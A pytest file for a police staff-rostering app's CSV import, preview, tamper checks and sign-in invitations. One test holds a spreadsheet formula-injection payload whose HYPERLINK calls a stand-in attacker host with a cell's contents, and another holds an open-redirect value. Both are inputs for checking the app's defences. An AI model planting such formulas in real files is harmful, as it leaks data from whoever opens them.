"""Onboarding through HTTP: people (and sign-ins) imported from a CSV file with a preview,
invitations to sign in through the outbox, and who has never signed in."""

import csv
import hashlib
import io
import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func
from sqlmodel import Session, col, select

from app import demo
from app.accounts import invitations, people_import
from app.accounts.models import User
from app.audit.models import AuditEntry
from app.clock import utcnow
from app.enums import Role
from app.notifications.models import ActionLink, OutboxMessage
from app.notifications.outbox import SKIPPED
from app.people.models import Person, Representation
from app.worker.runner import Worker
from tests.factories import Factory
from tests.forms import choose_password, csrf_of, post, says, sign_in

DEMO_CSV = Path(__file__).with_name("demo_people.csv")
LINK = re.compile(r"https://muster\.test/respond/(lnk_[A-Za-z0-9_-]+)")
HEADER = "staff_number,name,kind,rank_or_title,base_town,email,phone,languages,monthly_limit,active,role\n"


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _preview(client: TestClient, headers: dict[str, str], text: str, **extra: Any) -> Any:
    answer = client.post("/api/v1/people/import/preview", headers=headers, json={"csv": text, **extra})
    assert answer.status_code == 200, answer.text
    return answer.json()


def _apply(client: TestClient, headers: dict[str, str], text: str, preview: Any, **extra: Any) -> Any:
    body = {
        "csv": text,
        "file_sha256": preview["file_sha256"],
        "plan_sha256": preview["plan_sha256"],
        **extra,
    }
    return client.post("/api/v1/people/import", headers=headers, json=body)


def _row(preview: Any, staff_number: str) -> Any:
    [found] = [r for r in preview["rows"] if r["staff_number"] == staff_number]
    return found


def _count(db: Session, model: Any) -> int:
    db.expire_all()
    return int(db.exec(select(func.count()).select_from(model)).one())


def _upload(client: TestClient, content: bytes, filename: str = "people.csv") -> Any:
    token = csrf_of(client, "/admin/import")
    return client.post(
        "/admin/import",
        data={"csrf_token": token},
        files={"file": (filename, content, "text/csv")},
        follow_redirects=False,
    )


def _hidden(page: str, name: str) -> str:
    match = re.search(rf'name="{name}" value="([^"]*)"', page)
    assert match, f"no hidden field {name}"
    return match.group(1)


def _apply_form(page: str, **extra: str) -> dict[str, str]:
    return {name: _hidden(page, name) for name in ("csv", "filename", "file_sha256", "plan_sha256")} | extra


def _invitation_links(db: Session, worker: Worker) -> dict[str, str]:
    """Send what is due (kept in the outbox: no mail server in tests); each invited address
    with the link its message carries."""
    worker.drain()
    db.expire_all()
    found: dict[str, str] = {}
    for message in db.exec(
        select(OutboxMessage).where(OutboxMessage.kind == "invitation").order_by(col(OutboxMessage.id))
    ).all():
        match = LINK.search(message.body_text)
        if match:
            found[message.recipient] = match.group(1)
    return found


@pytest.fixture()
def worker() -> Worker:
    return Worker(worker_id="test-worker")


# --- the preview ------------------------------------------------------------------------------


def test_preview_says_what_each_row_would_do_and_why_and_writes_nothing(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    make.person("Tom Walsh", staff_number="LC1", kind="police_officer", base_town="Burnley", monthly_limit=4)
    make.person("Same Person", staff_number="LC2", kind="pcso", base_town="Bacup", monthly_limit=4)
    make.user("coordinator", email="taken@police.example")
    text = (
        HEADER
        + "LC1,Tom Walsh,Police officer,Sergeant,Blackburn,,,English;Urdu,3,yes,\n"
        + "LC2,Same Person,PCSO,,Bacup,,,,4,yes,\n"
        + "LC3,New Starter,special constable,Special constable,Darwen,new@police.example,,,,,staff\n"
        + "LC4,Bad Kind,detective,,,,,,,,\n"
        + "LC5,,pcso,,,,,,,,\n"
        + "LC6,Twice,pcso,,,,,,,,\n"
        + "LC6,Twice Again,pcso,,,,,,,,\n"
        + "LC7,Email Clash,pcso,,,taken@police.example,,,,,staff\n"
        + f"LC8,{'x' * 201},pcso,,,,,,,,\n"
        + "LC9,No Address,pcso,,,,,,,,coordinator\n"
        + "LC10,Too Many,pcso,,,,,,40,,\n"
        + "LC11,Partner,pcso,,,p@police.example,,,,,partner\n"
    )
    people_before, audit_before = _count(db, Person), _count(db, AuditEntry)

    preview = _preview(client, headers, text, filename="hr-export.csv")

    assert preview["counts"] == {
        "create": 1,
        "update": 1,
        "unchanged": 1,
        "skipped": 9,
        "sign_ins": 1,
        "beyond_limit": 0,
    }
    assert preview["file_sha256"] == _sha(text)
    updated = _row(preview, "LC1")
    assert updated["action"] == "update"
    assert [(c["field"], c["old"], c["new"]) for c in updated["changes"]] == [
        ("rank_or_title", "", "Sergeant"),
        ("base_town", "Burnley", "Blackburn"),
        ("languages", [], ["English", "Urdu"]),
        ("monthly_limit", 4, 3),
    ]
    assert _row(preview, "LC2")["action"] == "unchanged"
    created = _row(preview, "LC3")
    assert created["action"] == "create"
    assert created["sign_in"]["action"] == "create"
    assert (created["sign_in"]["email"], created["sign_in"]["role"]) == ("new@police.example", "staff")
    reasons = {r["staff_number"]: r["reason"] for r in preview["rows"] if r["action"] == "skipped"}
    assert "the kind is 'detective'" in reasons["LC4"]
    assert reasons["LC5"] == "the name is missing"
    assert reasons["LC6"].startswith("staff number LC6 is also on line")
    assert "taken@police.example is already another sign-in's" in reasons["LC7"]
    assert reasons["LC8"] == "the name is 201 characters long; at most 200 fit"
    assert reasons["LC9"].startswith("a sign-in needs an e-mail address")
    assert "whole number from 0 to 31" in reasons["LC10"]
    assert "partner" in reasons["LC11"]
    assert _count(db, Person) == people_before and _count(db, AuditEntry) == audit_before


def test_preview_page_shows_the_plan_in_words(client: TestClient, make: Factory) -> None:
    make.person("Tom Walsh", staff_number="LC1", kind="police_officer", base_town="Burnley")
    sign_in(client, make.user("admin"))
    text = (
        HEADER
        + "LC1,Tom Walsh,police_officer,,Blackburn,,,,,,\nLC2,Ann Lee,pcso,,,,,,,,\nLC3,,pcso,,,,,,,,\n"
    )

    page = _upload(client, text.encode(), "duty-export.csv")

    says(
        page,
        "What duty-export.csv would do",
        "Base town: Burnley → Blackburn",
        '<span class="stat__number">1</span> <span class="stat__label">to update</span>',
        "Import: add 1, update 1",
        '<strong class="tag tag--green">Add</strong>',
        "The name is missing.",
        "Nothing has changed yet.",
    )


def test_apply_does_what_the_preview_said_and_reimporting_changes_nothing(
    client: TestClient, make: Factory, db: Session
) -> None:
    admin = make.user("admin")
    headers = make.token(admin)
    make.person("Tom Walsh", staff_number="LC1", kind="police_officer", base_town="Burnley", latitude=53.7)
    text = (
        HEADER
        + "LC1,Tom Walsh,police_officer,Sergeant,Blackburn,tom@police.example,,,,,\n"
        + "LC2,Ann Lee,PCSO,PCSO,Nelson,ann.lee@police.example,07700 900123,English;Polish,2,yes,staff\n"
        + "LC3,Raj Mistry,police_staff,HR adviser,Accrington,raj@police.example,,,,no,staff\n"
        + "LC4,,pcso,,,,,,,,\n"
    )
    preview = _preview(client, headers, text)

    done = _apply(client, headers, text, preview)

    assert done.status_code == 200, done.text
    result = done.json()
    assert result["counts"] == preview["counts"]
    assert result["invited"] == 0
    db.expire_all()
    tom = db.exec(select(Person).where(Person.staff_number == "LC1")).one()
    assert (tom.rank_or_title, tom.base_town, tom.email) == ("Sergeant", "Blackburn", "tom@police.example")
    assert tom.latitude is None, "the old base's map position is dropped with it"
    ann = db.exec(select(Person).where(Person.staff_number == "LC2")).one()
    assert (ann.kind, ann.languages, ann.monthly_limit, ann.active) == (
        "pcso",
        ["English", "Polish"],
        2,
        True,
    )
    user = db.exec(select(User).where(User.email == "ann.lee@police.example")).one()
    assert (user.role, user.person_id, user.full_name, user.active) == (Role.staff, ann.id, "Ann Lee", True)
    assert user.invited_at is None and user.last_sign_in_at is None
    raj = db.exec(select(Person).where(Person.staff_number == "LC3")).one()
    assert raj.active is False
    assert db.exec(select(User).where(User.person_id == raj.id)).first() is None
    assert _row(result, "LC3")["sign_in"]["note"] == "not active, so no sign-in is made"
    summaries = [e.summary for e in db.exec(select(AuditEntry).order_by(col(AuditEntry.id))).all()]
    assert "person Ann Lee created (imported from a CSV file)" in summaries
    assert "person Tom Walsh updated (imported from a CSV file)" in summaries
    assert "user ann.lee@police.example (staff) created (imported from a CSV file)" in summaries
    assert db.exec(select(AuditEntry).where(AuditEntry.actor_user_id == admin.id)).first() is not None

    again = _preview(client, headers, text)
    assert again["counts"] == {
        "create": 0,
        "update": 0,
        "unchanged": 3,
        "skipped": 1,
        "sign_ins": 0,
        "beyond_limit": 0,
    }
    audit_before = _count(db, AuditEntry)
    assert _apply(client, headers, text, again).status_code == 200
    assert _count(db, AuditEntry) == audit_before


def test_an_imported_sign_in_opens_with_no_password(client: TestClient, make: Factory, db: Session) -> None:
    headers = make.headers("admin")
    text = HEADER + "LC2,Ann Lee,pcso,,,ann@police.example,,,,,coordinator\n"
    assert _apply(client, headers, text, _preview(client, headers, text)).status_code == 200

    for guess in ("", "muster-demo-2026", "correct horse battery staple"):
        answer = post(client, "/login", {"email": "ann@police.example", "password": guess})
        assert answer.status_code == 400


def test_a_changed_file_must_be_previewed_again(client: TestClient, make: Factory, db: Session) -> None:
    headers = make.headers("admin")
    text = HEADER + "LC1,Ann Lee,pcso,,,,,,,,\n"
    preview = _preview(client, headers, text)
    changed = text + "LC2,Raj Mistry,pcso,,,,,,,,\n"

    refused = _apply(client, headers, changed, preview)

    assert refused.status_code == 409
    assert "the file has changed since it was previewed: preview it again" in refused.json()["detail"]
    assert _count(db, Person) == 0
    assert _apply(client, headers, changed, _preview(client, headers, changed)).status_code == 200
    assert _count(db, Person) == 2


def test_records_changed_since_the_preview_refuse_the_import(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    text = HEADER + "LC1,Ann Lee,pcso,,Nelson,,,,,,\n"
    preview = _preview(client, headers, text)
    make.person("Someone Else", staff_number="LC1", kind="police_staff")

    refused = _apply(client, headers, text, preview)

    assert refused.status_code == 409
    assert "changed since this file was previewed" in refused.json()["detail"]
    assert refused.json()["plan_sha256"] != preview["plan_sha256"]
    db.expire_all()
    assert db.exec(select(Person.name)).all() == ["Someone Else"]


def test_import_through_the_pages_then_a_tampered_form_is_refused(
    client: TestClient, make: Factory, db: Session
) -> None:
    sign_in(client, make.user("admin"))
    text = HEADER + "LC1,Ann Lee,pcso,,Nelson,,,,,,\n"
    page = _upload(client, text.encode())
    form = _apply_form(page.text)
    tampered = dict(form, file_sha256=_sha("something else"))

    refused = post(client, "/admin/import/apply", tampered, token_from="/admin/import")

    assert refused.status_code == 409
    assert "The file has changed since it was previewed" in refused.text
    assert _count(db, Person) == 0
    done = post(client, "/admin/import/apply", form, token_from="/admin/import")
    assert done.status_code == 303 and done.headers["location"] == "/plan/people"
    assert (
        "Imported people.csv: 1 added, 0 updated, 0 unchanged, 0 skipped." in client.get("/plan/people").text
    )
    assert _count(db, Person) == 1


def test_the_pages_show_a_new_preview_when_records_changed(
    client: TestClient, make: Factory, db: Session
) -> None:
    sign_in(client, make.user("admin"))
    text = HEADER + "LC1,Ann Lee,pcso,,Nelson,,,,,,\n"
    form = _apply_form(_upload(client, text.encode()).text)
    make.person("Ann Lee", staff_number="LC1", kind="pcso", base_town="Bacup")

    answer = post(client, "/admin/import/apply", form, token_from="/admin/import")

    assert answer.status_code == 409
    assert "People or sign-ins changed since you saw the preview, so nothing was imported" in answer.text
    assert "Base town: Bacup → Nelson" in answer.text
    db.expire_all()
    assert db.exec(select(Person.base_town)).all() == ["Bacup"]


@pytest.mark.parametrize(
    ("content", "status", "words"),
    [
        (
            HEADER.encode() + "LC1,Zoë Brontë,pcso,,,,,,,,\n".encode("cp1252"),
            422,
            "The file is not UTF-8 text",
        ),
        ("staff_number,name\n".encode("utf-16"), 422, "The file is UTF-16 text, not UTF-8"),
        (b"PK\x03\x04\x14\x00\x06\x00", 422, "This is a spreadsheet workbook"),
        (b"", 422, "The file is empty"),
        (b"staff_number;name;kind\nLC1;Ann;pcso\n", 422, "The columns are separated by semicolons"),
        (b"name,kind\nAnn,pcso\n", 422, "it has no &#39;staff_number&#39; column"),
        (
            HEADER.encode() + b'LC1,"Ann Lee,pcso\n' + b"x" * 5000 + b"\n",
            422,
            "opened on line 2 is never closed",
        ),
        (HEADER.encode() + b"LC1," + b"x" * 5000 + b",pcso\n", 422, "Line 2 has a cell of 5,000 characters"),
        (HEADER.encode() + b"LC1," + b"a," * 60 + b"\n", 422, "Line 2 has 62 cells"),
        (HEADER.encode() + b'LC1,"Ann"Lee,pcso\n', 422, "Line 2 cannot be read as CSV"),
        (HEADER.encode() + b"LC1,Ann,pcso\n" * 41_000, 413, "The file is larger than 512 KB"),
        (HEADER.encode() + b"LC1,Ann,pcso\n" * 60_000, 413, "The file is larger than 512 KB"),
    ],
    ids=[
        "cp1252",
        "utf16",
        "xlsx",
        "empty",
        "semicolons",
        "no-key",
        "unclosed-quote",
        "long-cell",
        "wide",
        "bad-quote",
        "just-over",
        "far-over",
    ],
)
def test_files_that_are_not_a_table_of_people_are_refused_in_words(
    client: TestClient, make: Factory, db: Session, content: bytes, status: int, words: str
) -> None:
    sign_in(client, make.user("admin"))
    audit_before = _count(db, AuditEntry)

    answer = _upload(client, content)

    assert answer.status_code == status
    assert words in answer.text
    assert "There is a problem" in answer.text
    assert _count(db, Person) == 0 and _count(db, AuditEntry) == audit_before


def test_an_upload_far_over_the_limit_is_refused_before_it_is_read(client: TestClient, make: Factory) -> None:
    sign_in(client, make.user("admin"))
    token = csrf_of(client, "/admin/import")
    answer = client.post(
        "/admin/import",
        data={"csrf_token": token},
        files={"file": ("big.csv", b"x" * (3 * people_import.MAX_FILE_BYTES), "text/csv")},
    )
    says(answer, "The file is larger than 512 KB (524,288 bytes)", status=413)


def test_the_api_refuses_oversized_text_and_nul_characters(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    big = client.post(
        "/api/v1/people/import/preview",
        headers=headers,
        json={"csv": HEADER + "LC1,Ann,pcso,,,,,,,,\n" * 30_000},
    )
    assert big.status_code == 413
    assert big.json()["detail"].startswith("the file is larger than 512 KB")
    nul = client.post(
        "/api/v1/people/import/preview", headers=headers, json={"csv": HEADER + "LC1,A\x00,pcso\n"}
    )
    assert nul.status_code == 422
    assert _count(db, Person) == 0


def test_rows_beyond_the_limit_are_skipped_and_said(
    client: TestClient, make: Factory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(people_import, "MAX_ROWS", 3)
    headers = make.headers("admin")
    text = HEADER + "".join(f"LC{i},Person {i},pcso,,,,,,,,\n" for i in range(5))
    preview = _preview(client, headers, text)
    assert preview["counts"]["create"] == 3
    assert preview["counts"]["beyond_limit"] == 2


def test_formula_cells_stay_text_and_the_export_keeps_spreadsheets_from_running_them(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = (
        HEADER + f'LC1,"{formula.replace(chr(34), chr(34) * 2)}",pcso,@SUM(1+1),-2+3,,+44 7700 900123,,,,\n'
    )

    preview = _preview(client, headers, text)
    assert _row(preview, "LC1")["name"] == formula
    assert _apply(client, headers, text, preview).status_code == 200

    db.expire_all()
    person = db.exec(select(Person)).one()
    assert (person.name, person.rank_or_title, person.base_town, person.phone) == (
        formula,
        "@SUM(1+1)",
        "-2+3",
        "+44 7700 900123",
    )
    sign_in(client, make.user("admin"))
    page = client.get(f"/plan/people/{person.id}")
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Click&#34;)" in page.text
    exported = client.get("/admin/import/people.csv")
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    [row] = list(csv.DictReader(io.StringIO(exported.text.removeprefix("\ufeff"))))
    assert row["name"] == "'" + formula
    assert (row["rank_or_title"], row["base_town"], row["phone"]) == (
        "'@SUM(1+1)",
        "'-2+3",
        "'+44 7700 900123",
    )
    again = _preview(client, headers, exported.text)
    assert _row(again, "LC1")["action"] == "unchanged"


def test_unknown_columns_are_ignored_and_network_membership_is_never_read(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    make.network("Muslim Police Association")
    text = "staff_number,name,kind,Staff network,Shoe size\nLC1,Ann Lee,pcso,Muslim Police Association,7\n"

    preview = _preview(client, headers, text)

    assert [c["name"] for c in preview["ignored_columns"]] == ["Staff network", "Shoe size"]
    assert preview["ignored_columns"][0]["why"].startswith("network membership is never imported")
    assert "Muslim Police Association" not in str(preview)
    assert _apply(client, headers, text, preview).status_code == 200
    assert _count(db, Representation) == 0
    sign_in(client, make.user("admin"))
    page = _upload(client, text.encode())
    assert "Staff network" in page.text and "Muslim Police Association" not in page.text


# --- invitations ---------------------------------------------------------------------------


def test_import_with_invitations_queues_them_and_the_link_lets_the_person_sign_in(
    client: TestClient, make: Factory, db: Session, worker: Worker
) -> None:
    headers = make.headers("admin")
    text = HEADER + "LC1,Ann Lee,pcso,,,Ann.Lee@police.example,,,,,staff\n"
    preview = _preview(client, headers, text)

    result = _apply(client, headers, text, preview, invite=True).json()

    assert result["invited"] == 1
    db.expire_all()
    user = db.exec(select(User).where(User.email == "ann.lee@police.example")).one()
    assert user.invited_at is not None
    [message] = db.exec(select(OutboxMessage).where(OutboxMessage.kind == "invitation")).all()
    assert (message.subject_id, message.recipient) == (user.id, "ann.lee@police.example")
    token = _invitation_links(db, worker)["ann.lee@police.example"]

    page = client.get(f"/respond/{token}")
    assert page.status_code == 200
    assert "Choose a password to finish setting up your sign-in" in page.text
    assert choose_password(client, token, "a long new password").status_code == 303
    assert client.get(f"/respond/{token}").status_code == 410
    client.cookies.clear()
    signed = post(client, "/login", {"email": "ann.lee@police.example", "password": "a long new password"})
    assert signed.status_code == 303


def test_sending_again_ends_the_earlier_link(
    client: TestClient, make: Factory, db: Session, worker: Worker
) -> None:
    headers = make.headers("admin")
    user = make.user("staff", email="ann@police.example")
    first = client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)
    assert first.status_code == 202, first.text
    assert first.json()["invitation"] == "waiting"
    old = _invitation_links(db, worker)["ann@police.example"]
    listed = client.get("/api/v1/invitations", headers=headers).json()
    [state] = [s for s in listed["items"] if s["user_id"] == user.id]
    assert state["invitation"] == "open" and state["invitation_open_until"]

    again = client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)

    assert again.status_code == 202
    gone = client.get(f"/respond/{old}")
    assert gone.status_code == 410
    assert "This link no longer works" in gone.text
    worker.drain()
    db.expire_all()
    bodies = [m.body_text for m in db.exec(select(OutboxMessage).order_by(col(OutboxMessage.id))).all()]
    new = LINK.findall(bodies[-1])[0]
    assert new != old
    assert client.get(f"/respond/{new}").status_code == 200
    audit = [e.summary for e in db.exec(select(AuditEntry).where(AuditEntry.action == "invite")).all()]
    assert (
        audit[-1]
        == "invitation to sign in sent to ann@police.example; the earlier invitation no longer works"
    )


def test_revoking_ends_every_unused_link_and_unsent_invitation_and_keeps_the_user(
    client: TestClient, make: Factory, db: Session, worker: Worker
) -> None:
    headers = make.headers("admin")
    user = make.user("coordinator", email="sam@police.example")
    client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)
    sent = _invitation_links(db, worker)["sam@police.example"]

    revoked = client.delete(f"/api/v1/users/{user.id}/invitation", headers=headers)

    assert revoked.status_code == 200
    assert revoked.json()["invitation"] == "ended"
    assert client.get(f"/respond/{sent}").status_code == 410
    client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)
    assert client.delete(f"/api/v1/users/{user.id}/invitation", headers=headers).status_code == 200
    db.expire_all()
    statuses = db.exec(select(OutboxMessage.status).order_by(col(OutboxMessage.id))).all()
    assert statuses[-1] == SKIPPED, "the invitation not yet sent is not sent"
    worker.drain()
    db.expire_all()
    [link] = db.exec(select(ActionLink)).all()
    assert link.used_at is None and link.expires_at <= utcnow()
    kept = db.get(User, user.id)
    assert kept is not None and kept.active
    summaries = [e.summary for e in db.exec(select(AuditEntry).where(AuditEntry.action == "revoke")).all()]
    assert summaries[0] == "invitation to sam@police.example revoked"


def test_invitations_to_one_person_are_limited_per_hour(client: TestClient, make: Factory) -> None:
    headers = make.headers("admin")
    user = make.user("staff", email="ann@police.example")
    for _ in range(invitations.INVITATIONS_PER_HOUR):
        assert client.post(f"/api/v1/users/{user.id}/invitation", headers=headers).status_code == 202

    refused = client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)

    assert refused.status_code == 429
    assert refused.headers["retry-after"].isdigit()
    assert "sent 5 invitations in the last hour" in refused.json()["detail"]


def test_nobody_is_invited_who_signed_in_already_or_is_turned_off(
    client: TestClient, make: Factory, db: Session
) -> None:
    headers = make.headers("admin")
    user = make.user("staff", email="ann@police.example")
    user.last_sign_in_at = utcnow()
    off = make.user("staff", email="left@police.example")
    off.active = False
    db.add_all([user, off])
    db.commit()

    signed = client.post(f"/api/v1/users/{user.id}/invitation", headers=headers)
    turned_off = client.post(f"/api/v1/users/{off.id}/invitation", headers=headers)

    assert signed.status_code == 409
    assert "has signed in already" in signed.json()["detail"]
    assert turned_off.status_code == 409
    assert "is turned off" in turned_off.json()["detail"]
    listed = client.get("/api/v1/invitations", headers=headers).json()
    assert {s["email"] for s in listed["items"]} & {user.email, off.email} == set()


def test_invite_everyone_never_signed_in_and_the_users_page_shows_who(
    client: TestClient, make: Factory, db: Session
) -> None:
    admin = make.user("admin", email="admin@police.example")
    waiting = make.user("staff", email="ann@police.example")
    fresh = make.user("coordinator", email="raj@police.example")
    off = make.user("staff", email="left@police.example")
    off.active = False
    db.add(off)
    db.commit()
    sign_in(client, admin)
    post(
        client,
        f"/admin/users/{waiting.id}/invite",
        {"next": "/admin/invitations"},
        token_from="/admin/invitations",
    )

    done = post(client, "/admin/invitations", token_from="/admin/invitations")

    assert done.status_code == 303
    page = client.get("/admin/invitations").text
    assert "Invited 1 person by e-mail. Not invited: 1" in page
    db.expire_all()
    invited = db.exec(select(OutboxMessage.recipient).where(OutboxMessage.kind == "invitation")).all()
    assert sorted(invited) == ["ann@police.example", "raj@police.example"]
    assert "left@police.example" not in page
    users = client.get("/admin/users?signed_in=never").text
    assert "raj@police.example" in users and "Never signed in" in users
    assert "Invited " in users and "left@police.example" not in users
    assert "left@police.example" in client.get("/admin/users").text
    assert fresh.id is not None


def test_revoke_and_invite_buttons_on_the_invitations_page(
    client: TestClient, make: Factory, db: Session
) -> None:
    sign_in(client, make.user("admin"))
    user = make.user("staff", email="ann@police.example")
    invited = post(
        client,
        f"/admin/users/{user.id}/invite",
        {"next": "/admin/invitations"},
        token_from="/admin/invitations",
    )
    assert invited.status_code == 303 and invited.headers["location"] == "/admin/invitations"
    assert "Invitation waiting to be sent" in client.get("/admin/invitations").text

    revoked = post(
        client,
        f"/admin/users/{user.id}/revoke-invitation",
        {"next": "//evil.example"},
        token_from="/admin/invitations",
    )

    assert revoked.headers["location"] == "/admin/invitations"
    page = client.get("/admin/invitations").text
    assert "The invitation to ann@police.example no longer works. Their sign-in stays." in page
    assert "Invitation link expired or revoked" in page


# --- the demo: an administrator imports the forty people and invites them ---------------------


def test_the_demo_csv_is_the_demo_forces_forty_people(client: TestClient, db: Session) -> None:
    demo.load(db)
    sign_in_demo_admin(client)
    exported = list(
        csv.reader(io.StringIO(client.get("/admin/import/people.csv").text.removeprefix("\ufeff")))
    )
    sample = list(csv.reader(io.StringIO(DEMO_CSV.read_text())))
    assert len(sample) == 41
    assert [row[:-1] for row in exported] == [row[:-1] for row in sample]
    assert {row[-1] for row in sample[1:]} == {"staff"}


def sign_in_demo_admin(client: TestClient) -> None:
    answer = post(client, "/login", {"email": "admin@muster.example", "password": demo.DEMO_PASSWORD})
    assert answer.status_code == 303, answer.text


def test_an_administrator_imports_the_demos_forty_people_and_invites_them(
    client: TestClient, db: Session, worker: Worker
) -> None:
    demo.load(db)
    sign_in_demo_admin(client)
    content = DEMO_CSV.read_bytes()

    preview = _upload(client, content, "demo_people.csv")

    assert preview.status_code == 200
    assert "What demo_people.csv would do" in preview.text
    text = preview.text
    # Every person is known and unchanged; the active ones without a sign-in get one.
    assert '<span class="stat__number">40</span> <span class="stat__label">unchanged</span>' in text
    assert '<span class="stat__number">38</span> <span class="stat__label">sign-ins to make</span>' in text
    assert "Has a sign-in already (aisha.hussain@muster.example, staff)" in text
    assert "Not active, so no sign-in is made" in text

    done = post(client, "/admin/import/apply", _apply_form(text, invite="yes"), token_from="/admin/import")

    assert done.status_code == 303 and done.headers["location"] == "/admin/invitations"
    page = client.get("/admin/invitations").text
    assert (
        "Imported demo_people.csv: 0 added, 0 updated, 40 unchanged, 0 skipped; 38 sign-ins made, 38 invited by e-mail."
        in page
    )
    everyone = post(client, "/admin/invitations", token_from="/admin/invitations")
    assert everyone.status_code == 303
    db.expire_all()
    people = db.exec(select(Person).where(col(Person.active).is_(True))).all()
    users = {u.person_id: u for u in db.exec(select(User).where(col(User.person_id).is_not(None))).all()}
    assert len(people) == 39 and all(p.id in users for p in people)
    links = _invitation_links(db, worker)
    assert {users[p.id].email for p in people} <= set(links)
    assert "admin@muster.example" not in links

    # One of them takes the link and signs in.
    person = next(p for p in people if p.name == "Imran Patel")
    token = links[users[person.id].email]
    client.cookies.clear()
    assert client.get(f"/respond/{token}").status_code == 200
    assert choose_password(client, token, "my own new password").status_code == 303
    client.cookies.clear()
    signed = post(
        client, "/login", {"email": "imran.patel@police.example", "password": "my own new password"}
    )
    assert signed.status_code == 303
    assert "Imran Patel" in client.get("/my").text

    # Importing the same file again changes nothing.
    client.cookies.clear()
    sign_in_demo_admin(client)
    again = _upload(client, content, "demo_people.csv").text
    assert '<span class="stat__number">40</span> <span class="stat__label">unchanged</span>' in again
    assert "There is nothing to import: every row is unchanged or skipped." in again


def test_the_import_page_is_for_administrators(client: TestClient, make: Factory) -> None:
    sign_in(client, make.user("coordinator"))
    assert client.get("/admin/import").status_code == 403
    assert client.get("/admin/invitations").status_code == 403
    assert client.get("/admin/import/people.csv").status_code == 403


def test_role_labels_and_aliases_are_understood(client: TestClient, make: Factory) -> None:
    headers = make.headers("admin")
    text = "Staff No,Full Name,Kind,Rank,Town,E-mail,Role\nLC1,Ann Lee,Police Community Support Officer,PCSO,Nelson,ann@x.example,Administrator\n"
    preview = _preview(client, headers, text)
    row = _row(preview, "LC1")
    assert row["action"] == "create"
    assert row["sign_in"]["role"] == "admin"
    assert preview["columns"] == [
        "staff_number",
        "name",
        "kind",
        "rank_or_title",
        "base_town",
        "email",
        "role",
    ]
